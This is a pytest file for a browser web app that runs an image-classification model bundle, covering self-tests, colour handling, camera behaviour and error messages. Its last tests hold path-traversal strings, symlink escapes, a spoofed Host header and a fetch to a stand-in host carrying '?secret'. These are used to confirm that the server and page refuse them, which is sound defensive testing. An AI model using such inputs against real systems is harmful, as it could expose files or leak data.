"""The web app of a bundle, in Chromium with a real photograph. Skipped where `make browser-setup` was not run."""

from __future__ import annotations

import contextlib
import io
import json
import shutil
import signal
import struct
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from numpy.typing import NDArray
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from edgecv.bundle.web import LOADED, PAGE, serve_web, web_app
from edgecv.devices import Local, ask
from edgecv.devices.browser import chromium_here
from edgecv.devices.litert_js import litert_js
from edgecv.errors import MissingError, UsageError
from edgecv.recipe import Preprocess
from edgecv.target import Target
from tests.app_bundles import LABELS, believe, sample_photographs, write_bundle
from tests.conftest import ROOT

DATA = ROOT / "tests" / "data"
TINY = DATA / "tiny-int8.tflite"
PREPROCESS = Preprocess(size=16, resize="crop", crop_fraction=0.9, filter="bicubic")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle's folder by hand: the small int8 model, and what Python's LiteRT gives for photographs."""
    try:
        litert_js()
    except MissingError as error:
        pytest.skip(error.status)
    place = tmp_path_factory.mktemp("bundle")
    local = Local(Target(name="here", runtime="litert"))

    def run(pixels: NDArray[np.uint8]) -> NDArray[np.float32]:
        np.save(place / "pixels.npy", pixels[None])
        ask(local, (TINY,), do="predict", images=place / "pixels.npy", outputs=place / "outputs.npy")
        return np.array(np.load(place / "outputs.npy")[0])

    (place / "bundle").mkdir()
    return write_bundle(place / "bundle", (TINY,), run, PREPROCESS)


@pytest.fixture
def bundle(made: Path, tmp_path: Path) -> Path:
    """A copy that a test may spoil."""
    return Path(shutil.copytree(made, tmp_path / "bundle"))


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    path = chromium_here()
    if path is None:
        pytest.skip("chromium is not installed")
    camera = ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"]
    with sync_api.sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=path, args=["--no-sandbox", *camera])
        yield running
        running.close()


Opened = Callable[..., Any]


@pytest.fixture
def opened(browser: Any) -> Iterator[Opened]:
    """Open the page of an address, and wait until it is ready."""
    pages = []

    def given(url: str, **settings: Any) -> Any:
        pages.append(browser.new_page(**settings))
        pages[-1].goto(url)
        pages[-1].wait_for_selector("html[data-ready]", state="attached")
        return pages[-1]

    yield given
    for page in pages:
        page.close()


def self_tested(opened: Opened, bundle: Path) -> tuple[str, str]:
    """How the self-test of a bundle ended, and what it said."""
    with serve_web(bundle) as url:
        page = opened(f"{url}?self-test")
        return page.get_attribute("html", "data-self-test"), page.inner_text("main")


def test_the_self_test_passes_and_gives_its_figures(opened: Opened, bundle: Path) -> None:
    found, text = self_tested(opened, bundle)
    assert found == "passed", text
    assert "the model's bytes are those that were verified" in text
    assert "1.png: outputs differ by" in text
    assert "the model takes uint8 [1,16,16,3]" in text


def test_its_pixels_are_within_a_grey_level_of_trainings(opened: Opened, bundle: Path) -> None:
    path = bundle / "golden" / "golden.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"pixel_tolerance": 0.05}))
    found, text = self_tested(opened, bundle)
    assert found == "passed", text


def change(path: Path, **values: Any) -> None:
    path.write_text(json.dumps(json.loads(path.read_text()) | values))


def other_precision(bundle: Path) -> None:
    shutil.copyfile(DATA / "tiny.tflite", bundle / "model.tflite")


def other_answers(bundle: Path) -> None:
    other_precision(bundle)
    believe(bundle)
    change(bundle / "golden" / "golden.json", tolerance=1e-4)


SPOILED: dict[str, tuple[Callable[[Path], Any], str]] = {
    "model": (other_precision, "model.tflite is not the file that was verified"),
    "answers": (other_answers, "outputs differ by"),
    "order of labels": (lambda bundle: (bundle / "labels.txt").write_text("\n".join(reversed(LABELS))), "labels.txt"),
    "mean": (lambda bundle: change(bundle / "preprocess.json", mean=0.0), "mean"),
    "crop": (lambda bundle: change(bundle / "preprocess.json", resize="stretch"), "resize"),
    "no model": (lambda bundle: (bundle / "model.tflite").write_bytes(b"no model"), "not the file that was verified"),
    "no photographs": (lambda bundle: change(bundle / "golden" / "golden.json", images=[]), "0 golden photographs"),
}


@pytest.mark.parametrize("name", SPOILED)
def test_the_self_test_fails_where_a_bundle_was_changed(name: str, opened: Opened, bundle: Path) -> None:
    spoil, words = SPOILED[name]
    spoil(bundle)
    found, text = self_tested(opened, bundle)
    assert found == "failed"
    assert words in text


def test_other_pixels_fail_though_every_file_agrees(opened: Opened, bundle: Path) -> None:
    for path in (bundle / "preprocess.json", bundle / "golden" / "golden.json"):
        change(path, crop_fraction=0.3)
    change(bundle / "golden" / "golden.json", preprocess={"crop_fraction": 0.3})
    found, text = self_tested(opened, bundle)
    assert (found, "grey levels (at most 3)" in text) == ("failed", True)


def test_a_model_of_another_input_fails(opened: Opened, bundle: Path) -> None:
    spec = json.loads((bundle / "preprocess.json").read_text())
    change(bundle / "preprocess.json", input={**spec["input"], "dtype": "float32"})
    change(bundle / "golden" / "golden.json", preprocess={})
    found, text = self_tested(opened, bundle)
    assert (found, "the model takes uint8" in text) == ("failed", True)


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_a_photograph_shows_its_classes_and_times(width: int, scheme: str, opened: Opened, bundle: Path) -> None:
    complaints: list[str] = []
    with serve_web(bundle) as url:
        page = opened(url, viewport={"width": width, "height": 844}, color_scheme=scheme)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.set_input_files("#file", sample_photographs()[1])
        page.wait_for_selector("#answers li")
        shown = page.locator("#answers li")
        assert shown.count() == len(LABELS)
        shares = [float(share.removesuffix(" %")) for share in shown.locator("span").all_inner_texts()]
        assert shares == sorted(shares, reverse=True)
        assert sum(shares) == pytest.approx(100.0, abs=0.3)
        assert "ms for the model" in page.inner_text("#status")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert complaints == []


def test_a_file_that_is_no_image_is_told(opened: Opened, bundle: Path) -> None:
    with serve_web(bundle) as url:
        page = opened(url)
        page.set_input_files("#file", bundle / "labels.txt")
        page.wait_for_selector("#status.bad")
        assert page.inner_text("#status") == "labels.txt is not an image that this browser reads"


def display_p3() -> bytes:
    """A colour profile as iPhones' photographs have it: sRGB's, with the primaries of Display P3."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    primaries = {
        b"rXYZ": (0.51512, 0.2412, -0.00105),
        b"gXYZ": (0.29198, 0.69225, 0.04189),
        b"bXYZ": (0.1571, 0.06657, 0.78407),
    }
    for entry in range(132, 132 + 12 * struct.unpack_from(">I", profile, 128)[0], 12):
        name, start, _ = struct.unpack_from(">4sII", profile, entry)
        if name in primaries:
            struct.pack_into(">3i", profile, start + 8, *(round(65536 * value) for value in primaries[name]))
    return bytes(profile)


def encoded(kind: str, **settings: Any) -> bytes:
    """A photograph of that kind, turned by its EXIF."""
    file = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(sample_photographs()[1]) as image:
        small = Image.fromarray(np.asarray(image.resize((60, 40))))  # as `image`, but for its colour profile
    small.save(file, kind, exif=exif, **settings)
    return file.getvalue()


# Without options, createImageBitmap turns colours by their profile, as Safari's does whatever the options.
PIXELS = """async ([file, cut]) => {
  const {withoutProfile} = await import(new URL("profile.js", location));
  const {buffer} = Uint8Array.from(file);
  const image = await createImageBitmap(new Blob(cut ? withoutProfile(buffer) : [buffer]));
  const context = new OffscreenCanvas(image.width, image.height).getContext("2d");
  context.drawImage(image, 0, 0);
  return [image.width, image.height, ...context.getImageData(0, 0, image.width, image.height).data];
}"""


@pytest.mark.parametrize(("kind", "settings"), [("JPEG", {"quality": 95}), ("PNG", {}), ("WEBP", {"lossless": True})])
def test_a_photograph_of_other_colours_gives_the_pixels_that_training_saw(
    kind: str, settings: dict[str, Any], opened: Opened, bundle: Path
) -> None:
    plain, profiled = encoded(kind, **settings), encoded(kind, icc_profile=display_p3(), **settings)
    with serve_web(bundle) as url:
        page = opened(url)
        expected = page.evaluate(PIXELS, [list(plain), False])
        assert expected[:2] == ([60, 40] if kind == "WEBP" else [40, 60])  # Chromium turns no WebP by its EXIF
        assert page.evaluate(PIXELS, [list(profiled), False]) != expected
        assert np.array_equal(page.evaluate(PIXELS, [list(profiled), True]), expected)
        assert np.array_equal(page.evaluate(PIXELS, [list(plain), True]), expected)


def test_a_png_that_names_its_gamma_and_primaries_gives_the_pixels_that_training_saw(
    opened: Opened, bundle: Path
) -> None:
    other = PngInfo()
    other.add(b"gAMA", struct.pack(">I", 100_000))
    other.add(b"cHRM", struct.pack(">8I", 31270, 32900, 70800, 29200, 17000, 79700, 13100, 4600))
    named = encoded("PNG", pnginfo=other)
    with serve_web(bundle) as url:
        page = opened(url)
        expected = page.evaluate(PIXELS, [list(encoded("PNG")), False])
        assert page.evaluate(PIXELS, [list(named), False]) != expected
        assert np.array_equal(page.evaluate(PIXELS, [list(named), True]), expected)


# Each file cut off at each place, and each file with each of its first bytes another.
DAMAGED = """async (files) => {
  const {withoutProfile} = await import(new URL("profile.js", location));
  const length = (file) => withoutProfile(file.buffer).reduce((sum, part) => sum + part.length, 0);
  for (const file of files.map((one) => Uint8Array.from(one))) {
    for (let end = 0; end <= file.length; end++) if (length(file.slice(0, end)) > end) return `cut at ${end}`;
    for (let place = 0; place < 1000; place++) {
      for (const value of [0, 1, 255]) {
        const other = file.slice();
        other[place] = value;
        if (length(other) > file.length) return `${value} at ${place}`;
      }
    }
  }
  return "nothing is thrown";
}"""


def test_a_damaged_file_is_left_to_the_decoder(opened: Opened, bundle: Path) -> None:
    files = [list(encoded(kind, icc_profile=display_p3())) for kind in ("JPEG", "PNG", "WEBP")]
    with serve_web(bundle) as url:
        assert opened(url).evaluate(DAMAGED, files) == "nothing is thrown"


# A picture of 27 million pixels, read at once, and by the page where a canvas holds no more than an iPhone's.
STRIPS = """async () => {
  const {pixels} = await import(new URL("classifier.js", location));
  const {resample} = await import(new URL("resample.js", location));
  const source = new OffscreenCanvas(3000, 9000), context = source.getContext("2d", {willReadFrequently: true});
  for (let row = 0; row < 9000; row += 9) {
    context.fillStyle = `hsl(${row} 80% ${row % 100}%)`;
    context.fillRect(row % 1700, row, 1300, 9);
  }
  context.globalCompositeOperation = "destination-over";
  context.fillStyle = "white";
  context.fillRect(0, 0, 3000, 9000);
  const whole = context.getImageData(0, 0, 3000, 9000), box = {left: 0, top: 0, right: 3000, bottom: 9000};
  const spec = {size: 64, filter: "bicubic", resize: "stretch"};
  globalThis.OffscreenCanvas = class extends OffscreenCanvas {
    constructor(width, height) { super(...(width * height <= 4096 ** 2 ? [width, height] : [0, 0])); }
  };
  return [[...pixels(source, spec)], [...resample(whole, box, 64, "bicubic")]];
}"""


def test_a_photograph_larger_than_a_phones_canvas_gives_its_pixels(opened: Opened, bundle: Path) -> None:
    with serve_web(bundle) as url:
        strips, whole = opened(url).evaluate(STRIPS)
    assert np.array_equal(strips, whole)  # pytest would take minutes to tell how they differ
    assert len(set(strips)) > 100


def chosen(page: Any, path: Path, *, size: tuple[int, int], until: str) -> Any:
    """Choose a red photograph, and wait for what the page makes of it."""
    Image.new("RGB", size, "red").save(path)
    page.set_input_files("#file", path)
    page.wait_for_selector(until)
    return page


def test_a_large_photograph_is_shown_smaller(opened: Opened, bundle: Path, tmp_path: Path) -> None:
    with serve_web(bundle) as url:
        page = chosen(opened(url), tmp_path / "large.png", size=(6000, 3000), until="#answers li")
        assert page.evaluate("[shown.width, shown.height]") == [1440, 720]
        assert page.evaluate("[...shown.getContext('2d').getImageData(1439, 719, 1, 1).data]") == [255, 0, 0, 255]


def test_a_photograph_wider_than_a_canvas_is_told(opened: Opened, bundle: Path, tmp_path: Path) -> None:
    with serve_web(bundle) as url:
        page = chosen(opened(url), tmp_path / "wide.png", size=(66_000, 2), until="#status.bad")
        assert page.inner_text("#status") == "the photograph is too large for this browser: 66000 x 2"


def test_the_camera_is_classified_until_it_is_stopped(opened: Opened, bundle: Path) -> None:
    with serve_web(bundle) as url:
        page = opened(url)
        page.click("#live")
        page.wait_for_selector("#answers li")
        page.click("#live")
        assert page.evaluate("document.getElementById('camera').srcObject") is None


# The camera is given when the test says so, and a frame is drawn when it says so.
SLOW_CAMERA = """() => {
  const ask = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
  window.streams = [];
  const allowed = new Promise((done) => { window.allow = done; });
  navigator.mediaDevices.getUserMedia = async (wanted) => {
    const stream = await ask(wanted);
    streams.push(stream);
    await allowed;
    return stream;
  };
  window.frames = [];
  window.requestAnimationFrame = (each) => frames.push(each);
  window.draw = () => frames.splice(0).map((each) => each()).length;
  window.live = document.getElementById("live");
  window.tracks = () => streams.flatMap((stream) => stream.getTracks().map((track) => track.readyState));
}"""


@pytest.fixture
def slow_camera(opened: Opened, bundle: Path) -> Iterator[Any]:
    with serve_web(bundle) as url:
        page = opened(url, bypass_csp=True)  # a test's wait_for_function is an eval
        page.evaluate(SLOW_CAMERA)
        yield page


def test_two_clicks_open_one_camera_and_a_third_ends_it(slow_camera: Any) -> None:
    slow_camera.evaluate("live.click(); live.click(); allow()")
    slow_camera.wait_for_selector("#live[aria-pressed=true]:enabled")
    slow_camera.evaluate("live.click()")
    assert slow_camera.evaluate("tracks()") == ["ended"]


def test_a_photograph_chosen_while_the_camera_is_asked_for_stays(slow_camera: Any) -> None:
    slow_camera.evaluate("live.click()")
    slow_camera.wait_for_function("streams.length")
    slow_camera.set_input_files("#file", sample_photographs()[1])
    slow_camera.wait_for_selector("#answers li")
    slow_camera.evaluate("allow()")
    slow_camera.wait_for_selector("#live:enabled")
    assert slow_camera.evaluate("tracks()") == ["ended"]
    assert slow_camera.locator("#shown").is_visible()
    assert not slow_camera.locator("#camera").is_visible()


def test_a_page_that_may_ask_for_no_camera_tells_what_it_needs(slow_camera: Any) -> None:
    absent = "Object.defineProperty(navigator, 'mediaDevices', {value: undefined})"  # as over plain http
    slow_camera.evaluate(f"() => {{ {absent}; live.click(); }}")
    slow_camera.wait_for_selector("#status.bad")
    expected = "the camera can't be used: open this page over https, or from localhost"
    assert slow_camera.inner_text("#status") == expected


# How often what a screen reader says by itself changes while 20 frames are classified.
ANNOUNCED = """() => {
  window.announced = 0;
  const count = new MutationObserver((changes) => { announced += changes.length; });
  const loud = "[aria-live=polite], [role=status]:not([aria-live=off]), output";
  for (const one of document.querySelectorAll(loud)) count.observe(one, {childList: true});
}"""


def test_the_camera_is_announced_by_its_first_answer_not_by_each_frame(slow_camera: Any) -> None:
    slow_camera.evaluate("live.click(); allow()")
    slow_camera.wait_for_function("frames.length")
    slow_camera.evaluate(ANNOUNCED)
    assert slow_camera.inner_text("#answers li:first-child").startswith(slow_camera.inner_text("#heard"))
    for _ in range(20):
        slow_camera.evaluate("draw()")
        slow_camera.wait_for_function("frames.length")
    assert slow_camera.evaluate("announced") <= 2
    assert slow_camera.inner_text("#heard") in LABELS


# Photographs are decoded when the test says so, those asked for last first.
SLOW_DECODER = """() => {
  const decode = createImageBitmap;
  window.waiting = [];
  window.createImageBitmap = async (...given) => {
    await new Promise((done) => waiting.push(done));
    return decode(...given);
  };
}"""


def test_a_camera_started_while_a_photograph_is_decoded_stays(slow_camera: Any) -> None:
    slow_camera.evaluate(SLOW_DECODER)
    slow_camera.set_input_files("#file", sample_photographs()[1])
    slow_camera.wait_for_function("waiting.length")
    slow_camera.evaluate("live.click(); allow()")
    slow_camera.wait_for_function("frames.length")
    slow_camera.evaluate("waiting[0]()")
    slow_camera.wait_for_timeout(500)
    assert slow_camera.locator("#camera").is_visible()
    assert not slow_camera.locator("#shown").is_visible()


def test_of_two_photographs_the_one_chosen_last_stays(slow_camera: Any, tmp_path: Path) -> None:
    Image.new("RGB", (30, 20), "red").save(tmp_path / "last.png")
    slow_camera.evaluate(SLOW_DECODER)
    slow_camera.set_input_files("#file", sample_photographs()[1])
    slow_camera.wait_for_function("waiting.length == 1")
    slow_camera.set_input_files("#file", tmp_path / "last.png")
    slow_camera.wait_for_function("waiting.length == 2")
    slow_camera.evaluate("waiting[1]()")
    slow_camera.wait_for_selector("#answers li")
    slow_camera.evaluate("waiting[0]()")
    slow_camera.wait_for_timeout(500)
    assert slow_camera.evaluate("[shown.width, shown.height]") == [30, 20]


def test_a_file_that_is_no_image_leaves_no_earlier_answers(opened: Opened, bundle: Path) -> None:
    with serve_web(bundle) as url:
        page = opened(url)
        page.set_input_files("#file", sample_photographs()[1])
        page.wait_for_selector("#answers li")
        page.set_input_files("#file", bundle / "labels.txt")
        page.wait_for_selector("#status.bad")
        assert page.locator("#answers li").count() == 0
        assert not page.locator("#shown").is_visible()


def test_the_camera_stopped_and_started_again_within_a_frame_is_classified_once_a_frame(slow_camera: Any) -> None:
    slow_camera.evaluate("live.click(); allow()")
    slow_camera.wait_for_function("frames.length")
    slow_camera.evaluate("live.click(); live.click()")
    slow_camera.wait_for_function("frames.length == 2")
    for _ in range(10):
        asked = slow_camera.evaluate("draw()")
        slow_camera.wait_for_function("frames.length")
    assert asked == 1


def test_a_camera_that_is_refused_is_told(slow_camera: Any) -> None:
    refuse = "navigator.mediaDevices.getUserMedia = () => Promise.reject(new Error('not allowed'))"
    slow_camera.evaluate(f"() => {{ {refuse}; live.click(); }}")
    slow_camera.wait_for_selector("#status.bad")
    assert slow_camera.inner_text("#status") == "the camera can't be used: not allowed"
    assert slow_camera.locator("#live").is_enabled()


@pytest.mark.parametrize(
    ("missing", "words"),
    [("core.js", "app.js, or a file that it imports, is missing"), ("litert_wasm*.js", "LiteRT.js can't be loaded")],
)
def test_a_file_of_litert_js_that_is_missing_is_told(missing: str, words: str, browser: Any, bundle: Path) -> None:
    with serve_web(bundle) as url, contextlib.closing(browser.new_page()) as page:
        page.route(f"**/wasm/{missing}", lambda route: route.fulfill(status=404))
        page.goto(url)
        page.wait_for_selector("#status.bad")
        assert words in page.inner_text("#status")


def test_a_page_opened_as_a_file_tells_what_it_needs(browser: Any) -> None:
    with contextlib.closing(browser.new_page()) as page:
        page.goto((PAGE / "index.html").as_uri())
        page.wait_for_selector("#status.bad")
        assert "it needs a web server" in page.inner_text("#status")


def test_a_copied_app_needs_nothing_of_edgecv(
    opened: Opened, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    web_app(bundle)
    assert {path.name for path in (bundle / "app/web/wasm").iterdir()} == set(LOADED)
    monkeypatch.setenv("EDGECV_BROWSER", str(tmp_path / "none"))
    assert self_tested(opened, bundle)[0] == "passed"


def test_where_litert_js_is_not_here_the_command_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EDGECV_BROWSER", str(tmp_path))
    with pytest.raises(MissingError) as caught:
        web_app(tmp_path / "bundle")
    assert caught.value.fix == "edgecv setup-device browser"
    assert not (tmp_path / "bundle").exists()


def test_a_folder_that_is_no_bundle_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="is not a bundle that a browser runs"), serve_web(tmp_path):
        pass


def test_nothing_beside_the_bundle_is_served(bundle: Path) -> None:
    (bundle.parent / "secret.txt").write_text("secret")
    with serve_web(bundle) as url:
        for path in ("../../../secret.txt", "%2e%2e/%2e%2e/%2e%2e/secret.txt", "../../golden/"):
            with pytest.raises(urllib.error.HTTPError, match="404"):
                urllib.request.urlopen(url + path)


def test_a_link_out_of_the_bundle_is_not_followed(bundle: Path) -> None:
    (bundle.parent / "secret.txt").write_text("secret")
    (bundle.parent / "index.html").write_text("secret")
    (bundle / "golden" / "file.txt").symlink_to(bundle.parent / "secret.txt")
    (bundle / "golden" / "index.html").symlink_to(bundle.parent / "index.html")
    (bundle / "beside").symlink_to(bundle.parent, target_is_directory=True)
    with serve_web(bundle) as url:
        for path in ("golden/file.txt", "golden/", "golden/index.html", "beside/", "beside/secret.txt"):
            with pytest.raises(urllib.error.HTTPError, match="404"):
                urllib.request.urlopen(f"{url}../../{path}")


def test_a_bundle_that_is_named_by_a_link_is_served(bundle: Path) -> None:
    (bundle.parent / "named").symlink_to(bundle, target_is_directory=True)
    (bundle / "other.txt").symlink_to("labels.txt")
    with serve_web(bundle.parent / "named") as url, urllib.request.urlopen(f"{url}../../other.txt") as answer:
        assert answer.read() == (bundle / "labels.txt").read_bytes()


REFUSED = """() => new Promise((done) => {
  addEventListener("securitypolicyviolation", ({effectiveDirective}) => done(effectiveDirective));
  fetch("http://elsewhere.example/?secret").then(() => done("sent"), () => setTimeout(done, 2000, "not refused"));
})"""


def test_a_script_of_the_page_can_send_nothing_elsewhere(opened: Opened, bundle: Path) -> None:
    with serve_web(bundle) as url:
        assert opened(url).evaluate(REFUSED) == "connect-src"


def test_another_sites_name_for_this_machine_is_refused(bundle: Path) -> None:
    with serve_web(bundle) as url:
        asked = urllib.request.Request(url, headers={"Host": "elsewhere.example"})
        with pytest.raises(urllib.error.HTTPError, match="403"):
            urllib.request.urlopen(asked)


def test_a_runs_folder_stands_for_its_bundle(bundle: Path, tmp_path: Path) -> None:
    shutil.copytree(bundle, tmp_path / "run" / "bundles" / "linux-litert")
    with serve_web(tmp_path / "run") as url, urllib.request.urlopen(f"{url}../../labels.txt") as answer:
        assert answer.read() == (bundle / "labels.txt").read_bytes()


@pytest.mark.parametrize(("has", "made"), [(None, True), ("model.xml", True), ("model.tflite", False)])
def test_make_web_app_makes_a_bundle_where_none_runs_in_a_browser(has: str | None, made: bool, tmp_path: Path) -> None:
    (tmp_path / "bundles" / "one").mkdir(parents=True)
    if has:
        (tmp_path / "bundles" / "one" / has).touch()
    (tmp_path / "edgecv").write_text('#!/bin/sh\necho "$1"\n')
    (tmp_path / "edgecv").chmod(0o755)
    command = ["make", "-s", "-o", ".venv/installed", "web-app", f"BIN={tmp_path}", f"RUN={tmp_path}"]
    said = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True).stdout
    assert said.split() == [*(["bundle"] if made else []), "setup-device", "serve"]


def test_the_command_prints_the_address_and_ends_by_interrupt(bundle: Path) -> None:
    command = [sys.executable, "-m", "edgecv", "serve", str(bundle)]
    pipe = subprocess.PIPE
    # A job that a script started in the background ignores Ctrl-C, and so would its children.
    heard = {"preexec_fn": lambda: signal.signal(signal.SIGINT, signal.SIG_DFL)}
    with (
        subprocess.Popen(command, cwd=ROOT, stdout=pipe, stderr=pipe, text=True, **heard) as serving,
        contextlib.ExitStack() as ended,
    ):
        ended.callback(serving.kill)  # else a failure waits for it
        assert serving.stdout is not None
        url = serving.stdout.readline().strip()
        with urllib.request.urlopen(url) as answer:
            assert b"What is it?" in answer.read()
        serving.send_signal(signal.SIGINT)
        assert serving.wait(timeout=30) == 0
